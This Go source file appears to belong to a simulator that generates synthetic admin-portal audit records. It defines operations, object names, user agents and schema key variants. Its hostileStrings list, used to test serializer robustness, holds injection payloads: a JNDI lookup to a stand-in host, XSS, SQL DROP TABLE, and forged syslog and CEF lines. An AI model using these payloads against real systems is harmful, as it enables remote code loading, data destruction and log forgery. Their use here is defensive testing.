package simulator

import "strings"

// Vocabulary for realistic-looking audit records. Everything here is read-only
// after package init, so concurrent requests share it without locking.

type weighted struct {
	name   string
	weight int
}

// Operations and how often an admin portal sees them.
var operations = []weighted{
	{"Login", 18}, {"Logout", 12}, {"Update", 25}, {"Create", 10}, {"Delete", 7},
	{"Enable", 5}, {"Disable", 6}, {"Execute", 7}, {"Email", 5}, {"Download", 5},
}

// ObjectTypes lists every object type the simulator emits.
var ObjectTypes = []string{"PolicyRule", "Report", "User", "Admin", "ApiCredential", "Role", "Location", "Agent", "Setting"}

// Operations lists every operation type the simulator emits.
var Operations = func() []string {
	out := make([]string, len(operations))
	for i, o := range operations {
		out[i] = o.name
	}
	return out
}()

// Object types an operation may act on, weighted.
var (
	sessionTargets = []weighted{{"Admin", 8}, {"User", 2}}
	reportTargets  = []weighted{{"Report", 1}}
	changeTargets  = []weighted{
		{"PolicyRule", 10}, {"User", 3}, {"Admin", 1}, {"ApiCredential", 2},
		{"Role", 1}, {"Location", 2}, {"Agent", 2},
	}
	updateTargets = append(append([]weighted{}, changeTargets...), weighted{"Setting", 3})
	toggleTargets = []weighted{{"PolicyRule", 6}, {"Agent", 4}, {"User", 2}, {"ApiCredential", 2}, {"Setting", 1}}
)

func targetsFor(op string) []weighted {
	switch op {
	case "Login", "Logout":
		return sessionTargets
	case "Execute", "Email", "Download":
		return reportTargets
	case "Update":
		return updateTargets
	case "Enable", "Disable":
		return toggleTargets
	default:
		return changeTargets
	}
}

var objectNames = map[string][]string{
	"PolicyRule": {
		"Block Gambling", "Block Adult Content", "Allow Office 365", "SSL Bypass: Banking",
		"Warn Social Networking", "Block Newly Registered Domains", "Allow Salesforce",
		"Block Uncategorized", "Coach Streaming Media", "Block Peer-to-Peer",
		"Isolate Suspicious Sites", "Allow Zoom (Finance)",
	},
	"Report": {
		"Weekly Threat Summary", "Top Blocked Categories", "Bandwidth by Location",
		"Malware Detections (30 days)", "User Activity - Finance", "Shadow IT Discovery",
	},
	"ApiCredential": {"siem-audit-reader", "reporting-sync", "terraform-automation", "soar-integration", "backup-export"},
	"Role":          {"Super Admin", "Read Only", "Policy Admin", "Report Viewer", "Helpdesk"},
	"Location":      {"London HQ", "Frankfurt DC", "New York Office", "Singapore Branch", "Remote Users", "São Paulo Office"},
	"Agent": {
		"LAPTOP-7F3K2Q", "DESKTOP-91XA0Z", "MBP-JSMITH", "LAPTOP-Q8D1MM", "VDI-POOL-042",
		"DESKTOP-HR-017", "LAPTOP-FIN-233",
	},
	"Setting": {
		"Session Timeout", "SAML Identity Provider", "SSL Interception", "Password Policy",
		"Two-Factor Authentication", "Data Retention", "Threat Isolation",
	},
}

// Words used in descriptions, per object type.
var typeWords = map[string]string{
	"PolicyRule": "rule", "Report": "report", "User": "user", "Admin": "admin",
	"ApiCredential": "API credential", "Role": "role", "Location": "location",
	"Agent": "agent", "Setting": "setting",
}

var pastTense = map[string]string{
	"Create": "Created", "Update": "Updated", "Delete": "Deleted", "Enable": "Enabled",
	"Disable": "Disabled", "Execute": "Ran", "Email": "Emailed", "Download": "Downloaded",
}

var (
	firstNames = []string{
		"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
		"mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "yuki",
	}
	lastNames = []string{
		"smith", "jones", "nguyen", "garcia", "müller", "kowalski", "tanaka", "okafor", "silva",
		"dubois", "rossi", "hansen", "cohen", "patel",
	}
	adminDomains = []string{"example.com", "corp.example.net", "acme-security.io"}
	userAgents   = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
		"python-requests/2.32.3",
		"Terraform/1.9.8 terraform-provider-wss/0.4.1",
		"curl/8.11.0",
	}
	failureReasons = []string{
		"insufficient permissions", "object is locked by another admin", "validation failed",
		"internal error, please retry",
	}
	loginFailures = []string{
		"invalid credentials", "account locked after 5 failed attempts", "SAML assertion expired",
		"second factor rejected",
	}
)

// Strings that break naive serializers: log injection, CEF/LEEF specials,
// control characters, bidi tricks and non-BMP runes.
var hostileStrings = []string{
	"line one\nline two",
	"carriage\rreturn",
	"crlf\r\n\r\nsplit",
	`say "hello" and \ backslash \\ twice`,
	"nul\x00byte and bell\x07 and esc\x1b[31mred\x1b[0m",
	"tab\tseparated\tvalue",
	"CEF:0|Evil|Corp|1.0|100|x|10|src=1.2.3.4 act=blocked",
	"pipe|equals=value\\backslash=more|",
	`key=value\=escaped cs1Label=injected`,
	"\n<13>1 2026-11-24T10:15:02.123Z evil-host auditfwd - - - fake syslog line",
	"\r\n<134>Nov 24 10:15:02 evil-host sshd[1]: Accepted password for root",
	"Ümlaut naïve café 日本語 한국어 Ελληνικά 🚀🔥👩‍💻",
	"\u202eevil\u202c right-to-left override and \u200f RTL mark \u200e LTR mark",
	"line\u2028separator and paragraph\u2029separator",
	`{"json":"inside","a":[1,2]}`,
	"%s %n %x ${jndi:ldap://evil.example/a} {{.Secret}}",
	"<script>alert('xss')</script>&amp;",
	"'; DROP TABLE audit; --",
	"trailing spaces and\vvertical\ftab   ",
	"\x01\x02\x03\x04\x05\x06\x08\x0e\x0f\x10\x1f\x7f",
}

// hugeString is ~100 KB of mixed hostile content, built once.
var hugeString = func() string {
	var b strings.Builder
	for b.Len() < 100*1024 {
		for _, h := range hostileStrings {
			b.WriteString(h)
			b.WriteString(" | ")
		}
	}
	return b.String()
}()

// Extra keys that are not part of any candidate field name, so a tolerant
// mapper must keep them as unknown.
const (
	extraTenant = 1 << iota
	extraUserAgent
	extraDetails
	extraWeirdKey // hostile records only: a key name full of specials
)

const weirdKey = "x-note\n\"=|\\ key"

// Candidate key names per fact, as listed in wss-audit-api.md. Index 0 is the
// "default" schema's name.
var (
	timeKeys    = []string{"timestamp", "time", "eventTime", "date", "createdAt", "dateTime"}
	idKeys      = []string{"id", "auditId", "eventId", "uuid"}
	actorKeys   = []string{"userName", "user", "username", "admin", "adminName", "email"}
	ipKeys      = []string{"sourceIp", "clientIp", "ip", "ipAddress"}
	objTypeKeys = []string{"objectType", "type"}
	objNameKeys = []string{"objectName", "object", "name", "target"}
	opKeys      = []string{"operationType", "operation", "action"}
	statusKeys  = []string{"status", "result", "outcome"}
	messageKeys = []string{"description", "message", "details"}
)

// The "alt" schema's key per fact, as indexes into the lists above.
var altKeys = [numFacts]uint8{2, 1, 4, 1, 1, 3, 2, 1, 1}

const (
	factTime = iota
	factID
	factActor
	factIP
	factObjType
	factObjName
	factOp
	factStatus
	factMessage
	numFacts
)

var factKeys = [numFacts][]string{timeKeys, idKeys, actorKeys, ipKeys, objTypeKeys, objNameKeys, opKeys, statusKeys, messageKeys}
